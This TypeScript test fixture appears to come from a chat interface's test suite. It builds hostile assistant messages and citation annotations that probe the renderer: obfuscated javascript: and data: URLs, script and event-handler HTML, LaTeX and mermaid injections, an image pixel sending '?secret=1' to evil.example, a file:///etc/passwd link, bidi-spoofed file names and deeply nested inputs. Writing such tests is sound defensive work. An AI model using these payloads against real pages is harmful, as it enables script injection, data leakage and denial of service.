import type { MessagePart, UIMessage } from '../../../protocol/index.ts';
import { annotation, assistant, outputFile, textPart } from './message-builders.ts';

/** Where nothing may ever be asked for. */
const elsewhere = 'https://evil.example';

const schemes = [
  `javascript:pwned('link')`,
  `JaVaScRiPt:pwned('case')`,
  `java\tscript:pwned('tab')`,
  `\u0001javascript:pwned('control')`,
  `javascript&colon;pwned('entity')`,
  `&#106;avascript:pwned('number')`,
  `vbscript:pwned('basic')`,
  `data:text/html,%3Cscript%3Eopener.pwned('data')%3C/script%3E`,
  `data:image/svg+xml,%3Csvg onload="pwned('svg')"/%3E`,
  `blob:null/pwned`,
  `file:///etc/passwd`,
  `view-source:javascript:pwned()`,
  `feed:javascript:pwned()`,
];

const schemeText = schemes
  .flatMap((url, n) => [
    `[click](<${url}>) [bare](${url}) ![image](<${url}>) <${url}> [late][r${n}] ![late][r${n}]`,
    `[r${n}]: <${url}> "pwned"`,
  ])
  .join('\n\n');

const html = `<script>pwned('script')</script>
<img src=x onerror="pwned('onerror')"> <svg onload="pwned('svg')"><script>pwned('svg script')</script></svg>
<math><maction actiontype="statusline" xlink:href="javascript:pwned()">click</maction></math>
<style>@import '${elsewhere}/a.css'; body { background: url(${elsewhere}/b.png) }</style>

<iframe src="javascript:parent.pwned('frame')" srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe>

<form action="${elsewhere}" id="pwned"><input name="attributes" autofocus onfocus="pwned('focus')"><button>Send</button></form>

<base href="${elsewhere}/"> <meta http-equiv="refresh" content="0; url=${elsewhere}/"> <link rel="stylesheet" href="${elsewhere}/c.css">

<details open ontoggle="pwned('toggle')"><video src="${elsewhere}/v.mp4" onerror="pwned('video')"></video></details>

- <object data="${elsewhere}/o"></object> <embed src="${elsewhere}/e">
- ![pixel](${elsewhere}/pixel.png?secret=1) ![](//evil.example/p.png) [![in a link](${elsewhere}/l.png)](${elsewhere})

> \`\`\`html" onmouseover="pwned('info')
> </code></pre><script>pwned('code')</script>
> \`\`\`

| <img src=x onerror=pwned('cell')> | $<img src=x onerror=pwned('formula')>$ |
|---|---|
| [^"><script>] | \\(\\href{javascript:pwned('math')}{x}\\) |

[^"><script>]: <script>pwned('footnote')</script>

\`\`\`mermaid
graph TD; A["<img src=x onerror=pwned('diagram')>"]-->B; click A "javascript:pwned('diagram')"
\`\`\`

$$
\\href{javascript:pwned('math')}{x} \\includegraphics{${elsewhere}/m.png} \\htmlStyle{background:url(${elsewhere}/m2.png)}{x} \\def\\a{\\a\\a}\\a
$$
`;

const formulas = `$x$ $\\href{javascript:pwned('href')}{x}$ $\\url{javascript:pwned('url')}$ $\\includegraphics{${elsewhere}/m.png}$
$\\class{a"onclick="pwned('class')}{x}$ $\\id{pwned}{x}$ $\\style{background:url(${elsewhere}/m.png)}{x}$ $\\data{a=b}{x}$
$\\label{pwned} x$ $\\ref{pwned}$ $\\color{url(${elsewhere}/c)}{x}$ $\\text{<script>pwned('text')</script>}$
$\\rule{99999em}{99999em}$ $\\kern-99999em x$ $\\raisebox{99999em}{x}$ $\\def\\a{\\a\\a}\\a$ $${'{'.repeat(400)}x${'}'.repeat(400)}$

$$
${'\\frac{x}{'.repeat(450)}x${'}'.repeat(450)}
$$

$$
${'x^'.repeat(20_000)}x
$$

end`;

const invisible = `admin\u202Egnp.exe\u202C \u2066isolated \u2067nested\u2069 \u200B\u200C\u200D\uFEFF\u2060 z\u0300\u0301${'\u0302'.repeat(2000)}algo
\u202E\u202E\u202E [sdrawkcab](https://evil.example/\u202E) **\u200B** \0 \uD800 \uFFFF end`;

/** Messages that try to run something, to send something out, or to keep the page from answering. */
export const hostileMessages: Readonly<Record<string, UIMessage>> = {
  'addresses that run code': assistant(textPart(`${schemeText}\n\nend`)),
  'raw HTML of every kind': assistant(textPart(`${html}\nend`)),
  'formulas that lead elsewhere, cover the page or never end': assistant(textPart(formulas)),
  'directions and characters that do not show': assistant(textPart(invisible)),
  'links in links, 10,000 deep': assistant(
    textPart(`${'['.repeat(10_000)}a${'](javascript:pwned())'.repeat(10_000)} end`),
  ),
  'lists 10,000 deep': assistant(textPart(`${'- '.repeat(10_000)}end`)),
  'lists 10,000 deep, line by line': assistant(
    textPart(`${Array.from({ length: 10_000 }, (_, n) => `${' '.repeat(2 * Math.min(n, 200))}- a`).join('\n')}\nend`),
  ),
  'quotes 10,000 deep': assistant(textPart(`${'> '.repeat(10_000)}end`)),
  'emphasis 10,000 deep': assistant(textPart(`${'*a **b '.repeat(10_000)}${'c** d* '.repeat(10_000)} end`)),
  'a megabyte without a line break': assistant(textPart(`${'word '.repeat(200_000)}end`)),
  'a megabyte without a space': assistant(textPart(`${'x'.repeat(1_000_000)}end`)),
  'sources that run code': assistant(textPart('It is cited. It is the end'), ...hostileAnnotations()),
};

function hostileAnnotations(): MessagePart[] {
  const text = 'It is cited. It is the end';
  return [...schemes, `${elsewhere}/"><script>pwned('url')</script>`].flatMap((url, n) => [
    annotation('cited', text, {
      id: `a#u${n}`,
      kind: 'url_citation',
      source: {
        type: 'url',
        id: `"><script>pwned('id')</script>${n}`,
        url,
        title: `<img src=x onerror=pwned('title')>`,
      },
      quote: `<img src=x onerror="pwned('quote')">\u202E${'q'.repeat(10_000)}`,
    }),
    annotation('It is', text, {
      id: `a#f${n}`,
      start: n % 2 ? -1 : Number.MAX_SAFE_INTEGER,
      end: Number.NaN,
      source: { type: 'file', id: `__proto__${n}`, filename: `<svg onload=pwned('name')>\u202Etxt.exe`, url },
    }),
    { type: 'source-url', sourceId: `s${n}`, url, title: `</a><script>pwned('source')</script>` } as MessagePart,
    // Where a file is says the adapter and no model; but it may be wrong about what is safe to open.
    outputFile(`"><img src=x onerror=pwned('file')>${n}.svg`, { url: schemes[0], mediaType: 'text/html' }),
  ]);
}
